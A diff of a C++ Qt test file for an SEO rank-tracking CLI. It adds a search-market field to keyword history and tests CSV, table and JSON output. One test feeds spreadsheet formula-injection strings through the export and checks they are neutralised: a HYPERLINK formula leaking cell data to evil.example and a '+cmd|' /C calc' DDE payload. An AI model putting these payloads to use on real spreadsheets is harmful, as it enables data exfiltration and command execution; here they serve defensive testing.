@@ -1,5 +1,6 @@
-// quorvex-cli history and rank --json: the stored values as CSV, JSON and a table, the filters,
-// the page, pruning after the question, bad usage that changes nothing, and a rank run's results.
+// quorvex-cli history and rank --json: the stored values as CSV, JSON and a table, each keyword
+// record with its market, the filters, the page, pruning after the question, bad usage that changes
+// nothing, and a rank run's results.
 
 #include "CliRunner.h"
 
@@ -21,7 +22,8 @@ using enum ValueStatus;
 
 namespace {
 
-// Two runs: a page whose texts need quoting and escaping, a keyword record found and then not.
+// Two runs: a page whose texts need quoting and escaping, a keyword record found and then not, and
+// the same keyword searched in a market of its own.
 void RecordTwoRuns(const QString& home)
 {
     HistoryStore store(home);
@@ -37,12 +39,21 @@ void RecordTwoRuns(const QString& home)
                         u"esc\u001b[2Jhere"_s,
                         {}});
     first.Positions.append(
-        {0, u"http://www.alpha.com"_s, u"Widget"_s, u"seo"_s, 3, Found, 100, {u"a.com/"_s, u"b.com/"_s}});
+        {0, u"http://www.alpha.com"_s, u"Widget"_s, u"seo"_s, {}, 3, Found, 100, {u"a.com/"_s, u"b.com/"_s}});
     QVERIFY(store.Record(first) > 0);
     HistoryData second;
     second.Runs.append({0, QDateTime(QDate(2026, 3, 8), QTime(9, 30)), u"historical"_s, u"Report20260308.htm"_s});
-    second.Positions.append({0, u"http://www.alpha.com"_s, u"Widget"_s, u"seo"_s, 0, NotRanked, 10, {}});
-    second.Positions.append({0, u"http://www.beta.com"_s, {}, u"tools"_s, 0, Failed, 100, {}});
+    second.Positions.append({0, u"http://www.alpha.com"_s, u"Widget"_s, u"seo"_s, {}, 0, NotRanked, 10, {}});
+    second.Positions.append({0,
+                             u"http://www.alpha.com"_s,
+                             u"Widget"_s,
+                             u"seo"_s,
+                             Market{u"fr"_s, u"fr"_s, u"mobile"_s, u"Lyon, France"_s},
+                             7,
+                             Found,
+                             100,
+                             {}});
+    second.Positions.append({0, u"http://www.beta.com"_s, {}, u"tools"_s, {}, 0, Failed, 100, {}});
     QVERIFY(store.Record(second) > 0);
 }
 
@@ -77,24 +88,33 @@ private Q_SLOTS:
 
         const CliResult csv = RunQuorvexCli(home.path(), {u"history"_s, u"--csv"_s});
         QCOMPARE(csv.ExitCode, 0);
-        QCOMPARE(csv.Out, u"time,url,product,keyword,value,result,status,depth\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,pagerank,4/10,found,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,traffic rank,Not Available,failed,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,title,\"Alpha, \"\"the\"\" best\",,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,description,esc\\x1b[2Jhere,,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,keywords,,,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,Widget,seo,position,3,found,100\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,Widget,seo,top10,a.com/ b.com/,,\r\n"
-                          "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,position,,not ranked,10\r\n"
-                          "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,top10,,,\r\n"
-                          "2026-03-08 09:30:00,http://www.beta.com,,tools,position,,failed,100\r\n"
-                          "2026-03-08 09:30:00,http://www.beta.com,,tools,top10,,,\r\n"_s);
+        QCOMPARE(
+            csv.Out,
+            u"time,url,product,keyword,market,value,result,status,depth\r\n"
+            "2026-03-07 09:30:00,http://www.alpha.com,,,,pagerank,4/10,found,\r\n"
+            "2026-03-07 09:30:00,http://www.alpha.com,,,,traffic rank,Not Available,failed,\r\n"
+            "2026-03-07 09:30:00,http://www.alpha.com,,,,title,\"Alpha, \"\"the\"\" best\",,\r\n"
+            "2026-03-07 09:30:00,http://www.alpha.com,,,,description,esc\\x1b[2Jhere,,\r\n"
+            "2026-03-07 09:30:00,http://www.alpha.com,,,,keywords,,,\r\n"
+            "2026-03-07 09:30:00,http://www.alpha.com,Widget,seo,unspecified,position,3,found,100\r\n"
+            "2026-03-07 09:30:00,http://www.alpha.com,Widget,seo,unspecified,top10,a.com/ b.com/,,\r\n"
+            "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,unspecified,position,,not ranked,10\r\n"
+            "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,unspecified,top10,,,\r\n"
+            "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,\"fr fr mobile Lyon, France\",position,7,found,100\r\n"
+            "2026-03-08 09:30:00,http://www.alpha.com,Widget,seo,\"fr fr mobile Lyon, France\",top10,,,\r\n"
+            "2026-03-08 09:30:00,http://www.beta.com,,tools,unspecified,position,,failed,100\r\n"
+            "2026-03-08 09:30:00,http://www.beta.com,,tools,unspecified,top10,,,\r\n"_s);
 
-        const CliResult table = RunQuorvexCli(home.path(), {u"history"_s, u"--keyword"_s, u"TOOLS"_s});
+        const CliResult table =
+            RunQuorvexCli(home.path(), {u"history"_s, u"--keyword"_s, u" SEO"_s, u"--since"_s, u"2026-03-08"_s});
         QCOMPARE(table.ExitCode, 0);
-        QCOMPARE(table.Out, u"time\turl\tproduct\tkeyword\tvalue\tresult\tstatus\tdepth\n"
-                            "2026-03-08 09:30:00\thttp://www.beta.com\t\ttools\tposition\t\tfailed\t100\n"
-                            "2026-03-08 09:30:00\thttp://www.beta.com\t\ttools\ttop10\t\t\t\n"_s);
+        QCOMPARE(table.Out,
+                 u"time\turl\tproduct\tkeyword\tmarket\tvalue\tresult\tstatus\tdepth\n"
+                 "2026-03-08 09:30:00\thttp://www.alpha.com\tWidget\tseo\tunspecified\tposition\t\tnot ranked\t10\n"
+                 "2026-03-08 09:30:00\thttp://www.alpha.com\tWidget\tseo\tunspecified\ttop10\t\t\t\n"
+                 "2026-03-08 09:30:00\thttp://www.alpha.com\tWidget\tseo\tfr fr mobile Lyon, "
+                 "France\tposition\t7\tfound\t100\n"
+                 "2026-03-08 09:30:00\thttp://www.alpha.com\tWidget\tseo\tfr fr mobile Lyon, France\ttop10\t\t\t\n"_s);
 
         const CliResult json = RunQuorvexCli(home.path(), {u"history"_s, u"--json"_s, u"--since"_s, u"2026-03-07"_s});
         QCOMPARE(json.ExitCode, 0);
@@ -113,10 +133,21 @@ private Q_SLOTS:
         QCOMPARE(found.value(u"position"_s).toInt(), 3);
         QCOMPARE(found.value(u"status"_s).toString(), u"found"_s);
         QCOMPARE(found.value(u"top10"_s).toArray(), (QJsonArray{u"a.com/"_s, u"b.com/"_s}));
-        const QJsonObject lost = runs.at(1).toObject().value(u"keyword_records"_s).toArray().at(0).toObject();
+        QCOMPARE(
+            found.value(u"market"_s).toObject(),
+            (QJsonObject{{u"country"_s, u""_s}, {u"language"_s, u""_s}, {u"device"_s, u""_s}, {u"location"_s, u""_s}}));
+        const QJsonArray second = runs.at(1).toObject().value(u"keyword_records"_s).toArray();
+        const QJsonObject lost = second.at(0).toObject();
         QVERIFY(lost.value(u"position"_s).isNull());
         QCOMPARE(lost.value(u"status"_s).toString(), u"not ranked"_s);
         QCOMPARE(lost.value(u"depth"_s).toInt(), 10);
+        const QJsonObject inLyon = second.at(1).toObject();
+        QCOMPARE(inLyon.value(u"keyword"_s).toString(), u"seo"_s);
+        QCOMPARE(inLyon.value(u"position"_s).toInt(), 7);
+        QCOMPARE(inLyon.value(u"market"_s).toObject(), (QJsonObject{{u"country"_s, u"fr"_s},
+                                                                    {u"language"_s, u"fr"_s},
+                                                                    {u"device"_s, u"mobile"_s},
+                                                                    {u"location"_s, u"Lyon, France"_s}}));
     }
 
     // The JSON is written as it is read, in the very bytes of the whole document it always was:
@@ -135,18 +166,19 @@ private Q_SLOTS:
                                u"http://www.alpha.com"_s,
                                hostile,
                                u"seo"_s,
+                               {u"fr"_s, {}, u"desktop"_s, hostile},
                                3,
                                Found,
                                100,
                                {u"a.com/"_s, u"\"b\".com"_s, u"c\\d"_s, hostile, {}, u"e\u202e.com"_s}});
-        full.Positions.append({0, u"http://www.alpha.com"_s, {}, hostile, 0, NotRanked, 10, {{}, u"a.com"_s, {}}});
+        full.Positions.append({0, u"http://www.alpha.com"_s, {}, hostile, {}, 0, NotRanked, 10, {{}, u"a.com"_s, {}}});
         QVERIFY(store.Record(full) > 0);
         HistoryData empty;
         empty.Runs.append({0, QDateTime(QDate(2026, 3, 8), QTime(9, 30)), hostile, {}});
         QVERIFY(store.Record(empty) > 0);
         HistoryData recordsOnly;
         recordsOnly.Runs.append({0, QDateTime(QDate(2026, 3, 9), QTime(9, 30)), u"historical"_s, u"R.htm"_s});
-        recordsOnly.Positions.append({0, u"http://www.beta.com"_s, {}, u"seo"_s, 0, Failed, 100, {u"x.com"_s}});
+        recordsOnly.Positions.append({0, u"http://www.beta.com"_s, {}, u"seo"_s, {}, 0, Failed, 100, {u"x.com"_s}});
         QVERIFY(store.Record(recordsOnly) > 0);
 
         // The document as Qt writes it from the values read back.
@@ -175,6 +207,10 @@ private Q_SLOTS:
                             {u"url"_s, value.URL},
                             {u"product"_s, value.Product},
                             {u"keyword"_s, value.Keyword},
+                            {u"market"_s, QJsonObject{{u"country"_s, value.SearchMarket.Country},
+                                                      {u"language"_s, value.SearchMarket.Language},
+                                                      {u"device"_s, value.SearchMarket.Device},
+                                                      {u"location"_s, value.SearchMarket.Location}}},
                             {u"position"_s, value.Status == Found ? QJsonValue(value.Position) : QJsonValue()},
                             {u"status"_s, StatusWord(value.Status)},
                             {u"depth"_s, value.Depth},
@@ -207,21 +243,29 @@ private Q_SLOTS:
         run.Runs.append({0, QDateTime(QDate(2026, 3, 7), QTime(9, 30)), u"historical"_s, u"Report20260307.htm"_s});
         run.Pages.append({0, u"http://www.alpha.com"_s, u"-1"_s, Found, u"-2+3"_s, Found,
                           u"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"_s, u"=1+1"_s, u"@SUM(A1:A9)"_s});
-        run.Positions.append(
-            {0, u"http://www.alpha.com"_s, u"+cmd|' /C calc'!A0"_s, u"-seo"_s, 3, Found, 100, {u"@a.com"_s}});
+        run.Positions.append({0,
+                              u"http://www.alpha.com"_s,
+                              u"+cmd|' /C calc'!A0"_s,
+                              u"-seo"_s,
+                              {{}, {}, {}, u"=cmd"_s},
+                              3,
+                              Found,
+                              100,
+                              {u"@a.com"_s}});
         QVERIFY(HistoryStore(home.path()).Record(run) > 0);
 
         const CliResult csv = RunQuorvexCli(home.path(), {u"history"_s, u"--csv"_s});
         QCOMPARE(csv.ExitCode, 0);
-        QCOMPARE(csv.Out, u"time,url,product,keyword,value,result,status,depth\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,pagerank,-1,found,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,traffic rank,'-2+3,found,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,title,"
-                          "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,description,'=1+1,,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,,,keywords,'@SUM(A1:A9),,\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,position,3,found,100\r\n"
-                          "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,top10,'@a.com,,\r\n"_s);
+        QCOMPARE(csv.Out,
+                 u"time,url,product,keyword,market,value,result,status,depth\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,,pagerank,-1,found,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,,traffic rank,'-2+3,found,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,,title,"
+                 "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,,description,'=1+1,,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,,,,keywords,'@SUM(A1:A9),,\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,'=cmd,position,3,found,100\r\n"
+                 "2026-03-07 09:30:00,http://www.alpha.com,'+cmd|' /C calc'!A0,'-seo,'=cmd,top10,'@a.com,,\r\n"_s);
     }
 
     void badUsageChangesNothing_data()
